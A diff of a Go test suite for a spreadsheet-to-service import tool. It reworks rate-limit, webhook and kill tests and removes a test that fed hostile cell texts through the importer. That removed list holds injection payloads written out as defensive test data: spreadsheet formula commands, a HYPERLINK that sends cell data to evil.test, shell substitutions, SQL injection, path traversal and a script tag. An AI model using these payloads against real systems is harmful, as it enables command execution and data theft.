@@ -13,7 +13,6 @@ import (
 	"runtime"
 	"slices"
 	"strings"
-	"sync"
 	"sync/atomic"
 	"syscall"
 	"testing"
@@ -31,35 +30,15 @@ func TestRateOverrides(t *testing.T) {
 	t.Parallel()
 	s := newScene(t, "name: a\napi: v2\n"+clientPart, leads(8))
 	s.environment("limits: {requests_per_second: 0.001, concurrency: 1}")
-	var mu sync.Mutex
-	var at []time.Time
-	s.service.Play(func(apitest.Call) apitest.Fault {
-		mu.Lock()
-		defer mu.Unlock()
-		at = append(at, time.Now())
-		return apitest.Fault{Delay: 100 * time.Millisecond}
-	})
+	s.service.Play(func(apitest.Call) apitest.Fault { return apitest.Fault{Delay: 30 * time.Millisecond} })
+	began := time.Now()
 	p := s.mustRun(0, "--rate", "50", "--concurrency", "8", "--accept", "new-ledger")
 	together := false
 	for i, c := range p.calls[1:] {
 		together = together || c.Arrived < p.calls[i].Ended
 	}
-	if took := at[len(at)-1].Sub(at[0]); took < time.Duration(len(at)-2)*20*time.Millisecond || !together {
-		t.Errorf("%d requests in %v: more than 50 a second, or one after the other", len(at), took)
-	}
-}
-
-// TestDryRunLeavesNothing: a dry run writes a plan and no other file.
-func TestDryRunLeavesNothing(t *testing.T) {
-	s := newScene(t, stepThree, leads(2))
-	scratch := t.TempDir()
-	t.Setenv("TMPDIR", scratch)
-	s.mustRun(0, "--dry-run")
-	if left, err := os.ReadDir(scratch); err != nil || len(left) > 0 {
-		t.Errorf("the dry run leaves %v in the temporary folder (error %v)", left, err)
-	}
-	if diff := cmp.Diff([]string{"environments.yaml", "leads.plan.xlsx", "leads.xlsx", "mapping.yaml"}, names(t, s.dir)); diff != "" {
-		t.Errorf("files (-want +got):\n%s", diff)
+	if took := time.Since(began); took < time.Duration(len(p.calls)-2)*20*time.Millisecond || !together {
+		t.Errorf("%d requests in %v: more than 50 a second, or one after the other", len(p.calls), took)
 	}
 }
 
@@ -180,68 +159,6 @@ func TestTraceOfARun(t *testing.T) {
 	}
 }
 
-// TestC2_HostileCells sends a sheet with hostile texts in the addresses of its clients. What arrives at the service is
-// to the letter what the cell says, or the row is invalid; every row is accounted for once, and stderr has no text of a cell.
-func TestC2_HostileCells(t *testing.T) {
-	t.Parallel()
-	const canary = "s3cr3t"
-	var rows [][]any
-	for n, text := range hostileTexts {
-		row := lead(n+1, fmt.Sprint("A-", n+1))
-		row[1], row[4] = canary+"\u202e", text.stored
-		rows = append(rows, row)
-	}
-	s := newScene(t, stepThree, rows)
-	p := s.mustRun(1, "--max-failures", "100%")
-	for _, bad := range []string{"panic", "goroutine ", canary, "\x1b", "\u202e", "\x00", "evil"} {
-		if strings.Contains(p.err, bad) {
-			t.Errorf("stderr holds %q:\n%s", bad, p.err)
-		}
-	}
-	if r := p.summary.Rows; r.Total != len(rows) || r.Done+r.Invalid != len(rows) || r.Invalid == 0 {
-		t.Errorf("%d rows came to %+v", len(rows), r)
-	}
-	arrived := map[string]string{}
-	for _, call := range p.calls {
-		if call.Kind != "activity" || !strings.Contains(call.Body, reference[0].Attributes[0].ID) {
-			continue
-		}
-		var body struct {
-			Attributes []struct{ TemplateID, StringValue string }
-		}
-		must(t, json.Unmarshal([]byte(call.Body), &body))
-		for _, a := range body.Attributes {
-			if a.TemplateID == reference[0].Attributes[1].ID {
-				arrived[call.Client] = a.StringValue
-			}
-		}
-	}
-	for i, row := range s.results() {
-		text := hostileTexts[i]
-		if got := arrived[row["E-mail"]]; got != text.arrives || (row["Import status"] == "invalid") != (row["Error"] != "") {
-			t.Errorf("%q arrived as %q, want %q; its row is %q: %s", text.stored, got, text.arrives, row["Import status"], row["Error"])
-		}
-	}
-	s.checkPromise()
-}
-
-// hostileText is a text as the file holds it and as it must arrive; "" where it must be refused or is nothing.
-type hostileText struct{ stored, arrives string }
-
-func same(s string) hostileText { return hostileText{s, s} }
-
-// hostileTexts are what people, programs and attackers put into text cells.
-var hostileTexts = []hostileText{
-	same("1 High Street"), same("=1+1"), same("=cmd|' /C evil'!A0"), same("+1+cmd|evil"), same("-1+1"), same("@SUM(1+1)*cmd|evil"),
-	same("=HYPERLINK(\"http://evil.test?x=\"&A1,\"click\")"), same("{{.Env}}"), same("${HOME}"), same("$(evil)"), same("`evil`"), same("%s%n%d"), same(`"},{"x":"`),
-	same("\\\"},{\\\"x\\\":\\\""), same("</t></is></c><evil/>"), same("<script>evil()</script>"), same("'; DROP TABLE steps;--"), same("../../etc/evil"),
-	same("{E-mail}"), same("{{E-mail}}"), same("E-mail | Name"), same("null"), same("true"), same("NaN"), same("00123"), same("1E5"), same("#N/A"),
-	same("a\tb"), {"line one\r\nline two", "line one\nline two"}, {"line one\rline two", "line one\nline two"}, same("line one\nline two"),
-	same("Zo\u00eb"), same("Zoe\u0308"), same("a\u200bb"), same("a\u202eb\u202c"), same("\u2066a\u2069b"), same("👩\u200d👩\u200d👧"), same("ﷺ"), same("\U0001F4A9 \U000E0001x"),
-	{"  spaced out \u00a0", "spaced out"}, {"\u200bzero\u2060", "zero"}, {"_x0041_BC", "ABC"}, {"_x005F_x0041_", "_x0041_"},
-	{"NUL_x0000_here", ""}, {"ESC_x001B_[31mred", ""}, {"BEL_x0007_", ""}, {"lost\ufffdcharacter", ""}, {"\u200b", ""}, {"   ", ""}, {"DEL\u007f", ""}, {"C1\u0085x", ""},
-}
-
 const trackingEntry = `tracking:
   webhook: {path: /hook, header: X-Token, token: "file:token", id: /id, kind: /type, client_id: /contact, claim_id: /claim, activity: /activity, time: /at}
   export: {client_id: /Contact, activity: /Step, status: /State, time: /When}
@@ -256,21 +173,13 @@ func TestTracking(t *testing.T) {
 	s.environment(trackingEntry)
 	write(t, s.path("token"), "sesame")
 	s.mustRun(0)
-	before := s.results()
-	steps := s.steps()
-	ann, bob := before[0]["contactId"], before[1]["contactId"]
+	steps, ids := s.steps(), column(s.results(), "contactId")
+	ann, bob := ids[0], ids[1]
 
 	b := inBackground(t, s.pace, "listen", "-m", s.path("mapping.yaml"), "--addr", "127.0.0.1:0")
 	hook := b.line(&b.out, "")
-	event := func(id, kind, contact, activity, at string) string {
-		return fmt.Sprintf(`{"id":%q,"type":%q,"contact":%q,"activity":%q,"at":%q,"name":"Ann"}`, id, kind, contact, activity, at)
-	}
-	for _, body := range []string{
-		event("1", "completed", ann, "Sign your claim", "2026-04-01T10:00:00Z"),
-		event("1", "completed", ann, "Sign your claim", "2026-04-01T10:00:00Z"), // again
-		event("0", "opened", ann, "Sign your claim", "2026-04-01T09:00:00Z"),    // out of order
-		event("2", "completed", "unknown", "Sign your claim", "2026-04-01T10:00:00Z"),
-	} {
+	for _, e := range [][3]string{{"1", ann, "10"}, {"1", ann, "10"}, {"0", ann, "09"}, {"2", "unknown", "10"}} { // twice, out of order, of nobody
+		body := fmt.Sprintf(`{"id":%q,"type":"completed","contact":%q,"activity":"Sign your claim","at":"2026-04-01T%s:00:00Z","name":"Ann"}`, e[0], e[1], e[2])
 		r, err := http.NewRequest(http.MethodPost, hook, strings.NewReader(body))
 		must(t, err)
 		r.Header.Set("X-Token", "sesame")
@@ -408,17 +317,23 @@ func inDoubt(inFlight int) int {
 }
 
 // TestKilledLeavesFewInDoubt kills the program with eight requests in flight: each kill leaves no more steps uncertain than is
-// promised, whatever number of clients waits for a place.
+// promised, whatever number of clients waits for a place. X-7 of docs/security.md: personal data is where it belongs, and nothing in the
+// system's folder for temporary files.
 func TestKilledLeavesFewInDoubt(t *testing.T) {
 	t.Parallel()
 	const inFlight = 8
-	s := newScene(t, stepThree, leads(60))
+	rows, temp := leads(60), t.TempDir()
+	rows[0][1] = "CanaryName"
+	s := newScene(t, stepThree, rows)
 	rng, before := seeded(t, 0), 0
 	for kill := range testform.LongOr(4, 1) {
-		p := child(programName, s.args("--concurrency", fmt.Sprint(inFlight)))
+		p := child(programName, s.args("--concurrency", fmt.Sprint(inFlight)), "TMPDIR="+temp, "TMP="+temp)
 		s.service.Play(atPost(20+rng.Int64N(20), time.Millisecond, p.kill))
 		if code, said := p.end(t); code != -1 {
 			t.Fatalf("exit code %d: it was not killed\n%s", code, said)
+		}
+		if s.searchAll(""); len(names(t, temp)) > 0 {
+			t.Errorf("left in the folder for temporary files: %v", names(t, temp))
 		}
 		s.settleDown()
 		s.service.Play(nil)
